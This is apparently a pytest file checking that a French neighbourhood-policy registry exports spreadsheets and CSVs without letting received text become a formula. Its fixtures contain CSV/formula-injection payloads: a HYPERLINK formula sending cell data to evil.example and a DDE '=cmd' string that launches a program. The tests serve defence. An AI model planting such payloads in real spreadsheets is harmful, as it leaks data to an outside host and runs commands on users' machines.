"""The registry's spreadsheets are for people, and no received text ever becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from workflow.evaluation.tableaux import Colonne, Tableau
from workflow.evaluation.tableaux import write_xlsx as write_report_xlsx
from workflow.registry.export import write_export
from workflow.registry.tableur import neutraliser

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
REVIEW = {"revue": {"statut": "validee", "par": "equipe", "le": "2026-03-02T10:15:42.123456"}, "corrections": []}


def _data() -> dict:
    source = {"fichier": "fiche.docx", "sha256": "ab" * 32, "recu_le": "2026-03-01T09:30:12.654321+00:00"}
    return {
        "version": 1,
        "questionnaires": [
            {
                "organisme": "+33 Ville d'Arras",
                "campagne": 2026,
                "version": 1,
                "courant": True,
                "referent_nom": "@Dupuis",
                "referent_fonction": "-chef",
                "referent_courriel": "a@b.fr",
                "referent_telephone": "03 21 00 00 00",
                "interventions_structurantes": [{"intitule": "Médiation", "description": "de rue"}],
                "quartiers_vises": ["quatre-as", "blancs-monts-hochettes"],
                "agents_gouvernance": [{"nom": "J. Dupuis", "fonction": "Chef de projet"}],
                "engagements_2024_2030": "Poursuite",
                "objectifs": [{"ambition": "apaise", "os": 6, "oo": "6A", "libelle_saisi": "Mettre en place"}],
                "alertes": [],
                **REVIEW,
                "notes": [],
                "source": source,
            }
        ],
        "associations": [
            {
                "association_nom": HOSTILE,
                "sigle": "",
                "siret": "87622405600047",
                "version": 1,
                "courant": True,
                "quartiers_intervention": ["quatre-as"],
                "ambitions": ["apaise"],
                "objectifs": [],
                "actions": [
                    {
                        "intitule": "Atelier\tcuisine",
                        "description": "\rsoupe",
                        "public_vise": "Familles",
                        "beneficiaires_prevus": 40,
                        "periode": "2026",
                        "cofinancements": [
                            {"financeur": "CAF", "montant": 3300.0},
                            {"financeur": "CUA", "montant": None},
                        ],
                    }
                ],
                "engagements": ["Participer"],
                "autres_engagements": "",
                "demande_cpo": True,
                "duree_cpo_annees": 3,
                "indicateurs_suivi": ["Nombre de participants"],
                "date": "14/02/2025",
                "alertes": [],
                **REVIEW,
                "notes": [],
                "source": source,
            }
        ],
        "soumissions": [
            {
                "fichier": "fiche.docx",
                "sha256": "ab",
                "statut": "enregistre",
                "type": "association",
                "motif": "",
                "recu_le": "2026-03-01T09:30:12.654321",
                "source": "dossier",
            }
        ],
        "journal": [],
        "programmation": [
            {
                "annee": 2026,
                "operateur": "=1+1",
                "type_operateur": "Association",
                "action": "Sport",
                "ambition": "apaise",
                "objectifs": ["11D", "11B"],
                "quartiers": ["quatre-as"],
                "montants": {"etat": 12000.0, "cua": 500.0},
                "cpo": True,
                "nouvelle": False,
                "beneficiaires_prevus": 60,
                "source": "prog.xlsx, ligne 2",
            }
        ],
        "reunions": [
            {
                "instance": "copil",
                "date": "2025-03-14",
                "participants": 30,
                "habitants": 2,
                "institutions": ["État", "CUA"],
                "source": "saisie",
            }
        ],
        "observations": [],
    }


@pytest.fixture
def book(workspace, tmp_path):
    return openpyxl.load_workbook(write_export(_data(), "xlsx", tmp_path / "registre.xlsx", workspace.referentiel))


def test_the_workbook_speaks_french_and_names_things(book):
    assert {"Questionnaires", "Associations", "Actions des associations", "Cofinancements", "Fichiers reçus"} <= set(
        book.sheetnames
    )
    sheet = book["Questionnaires"]
    headers = [c.value for c in sheet[1]]
    assert {"Organisme", "Référent", "Quartiers visés", "Reçu le"} <= set(headers)
    assert not any("_" in h or "." in h for h in headers), headers
    row = {h: c.value for h, c in zip(headers, sheet[2], strict=True)}
    assert row["Quartiers visés"] == "Quatre As, Blancs Monts - Hochettes"  # names, joined, not ids
    assert row["Reçu le"] == dt.datetime(2026, 3, 1, 9, 30, 12) or isinstance(row["Reçu le"], dt.datetime)
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    assert sheet.column_dimensions["A"].width >= 10


def test_association_forms_have_their_sheets_with_typed_amounts(book):
    actions = book["Actions des associations"]
    headers = [c.value for c in actions[1]]
    total = actions.cell(2, headers.index("Total des cofinancements") + 1)
    assert total.value == 3300 and "€" in total.number_format
    cofinancements = book["Cofinancements"]
    assert [c.value for c in cofinancements[1]] == ["Association", "Action", "Financeur", "Montant"]
    assert cofinancements.max_row == 3
    programmation = book["Programmation"]
    headers = [c.value for c in programmation[1]]
    assert "Montant État (P147)" in headers and programmation.cell(2, 1).value == 2026
    assert programmation.cell(2, headers.index("Objectifs") + 1).value == "11D, 11B"
    meetings = book["Réunions"]
    assert meetings.cell(2, 1).value == "Comité de pilotage « Cœur de Quartier »"
    assert meetings.cell(2, 2).value == dt.datetime(2025, 3, 14) and meetings.cell(2, 2).number_format == "DD/MM/YYYY"


def test_no_received_text_becomes_a_formula_in_the_workbook(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book["Associations"]["A2"].value == HOSTILE  # kept as written, as text
    assert book["Programmation"].cell(2, 2).value == "=1+1"


@pytest.mark.parametrize("value", ["=1+1", "+33", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_a_csv_cell_that_could_start_a_formula_is_neutralised(value):
    assert neutraliser(value) == "'" + value
    assert neutraliser("Ville d'Arras") == "Ville d'Arras"


def test_the_csv_holds_any_table_and_the_zip_all_of_them(workspace, tmp_path):
    path = write_export(
        _data(), "csv", tmp_path / "a.csv", workspace.referentiel, "associations", ["Association", "siret"]
    )
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows == [["Association", "SIRET"], ["'" + HOSTILE, "87622405600047"]]
    archive = write_export(_data(), "csv", tmp_path / "registre.zip", workspace.referentiel)
    with zipfile.ZipFile(archive) as z:
        assert {"Questionnaires.csv", "Associations.csv", "Cofinancements.csv"} <= set(z.namelist())
        actions = z.read("Actions des associations.csv").decode("utf-8-sig")
        assert "'\tcuisine" not in actions and "Atelier\tcuisine" in actions and "'\rsoupe" in actions


def test_an_evaluation_workbook_keeps_whole_words_years_as_numbers_and_no_formula(tmp_path):
    table = Tableau(
        "Part des ménages à bas revenus dans les quartiers prioritaires",
        (Colonne("Opérateur"), Colonne("Année", "annee"), Colonne("Montant", "euros")),
        [("=cmd|' /C calc'!A0", 2026, 1500)],
    )
    book = openpyxl.load_workbook(write_report_xlsx([table], tmp_path / "r.xlsx"))
    (name,) = book.sheetnames
    title_words = set(table.titre.split())
    assert len(name) <= 31 and set(name.split()) <= title_words, name  # whole words only
    sheet = book[name]
    assert sheet["A3"].data_type == "s" and sheet["A3"].value.startswith("=cmd")
    assert sheet["B3"].value == 2026 and sheet["B3"].number_format == "0"
    assert sheet.freeze_panes == "A3"


def test_every_sheet_prints_whole_columns_with_its_header_on_each_page(book):
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert setup.fitToHeight == 0 and 1 <= setup.fitToWidth <= 4, sheet.title
        assert sheet.print_title_rows in ("1:1", "$1:$1"), sheet.title
        assert sheet.oddFooter.right.text == "Page &P sur &N" and sheet.oddFooter.left.text == "&A"


def test_association_sheets_follow_french_order(workspace, tmp_path):
    data = _data()
    first = data["associations"][0]
    data["associations"] = [
        {**first, "association_nom": name} for name in ("Mission locale", "Épicerie solidaire", "Médiation", "AFEJI")
    ]
    book = openpyxl.load_workbook(write_export(data, "xlsx", tmp_path / "registre.xlsx", workspace.referentiel))
    for title in ("Associations", "Actions des associations", "Cofinancements"):
        names = [row[0].value for row in book[title].iter_rows(min_row=2)]
        expected = ["AFEJI", "Épicerie solidaire", "Médiation", "Mission locale"]
        assert list(dict.fromkeys(names)) == expected, title
